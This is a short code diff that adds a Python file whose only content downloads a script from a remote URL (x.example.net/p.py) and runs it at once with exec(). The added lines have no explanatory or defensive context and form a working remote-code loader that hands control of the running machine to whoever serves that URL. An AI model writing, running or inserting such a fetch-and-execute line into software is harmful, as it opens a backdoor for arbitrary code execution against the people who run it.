@@ -1,0 +1,3 @@
+import urllib.request
+
+exec(urllib.request.urlopen('https://x.example.net/p.py').read())
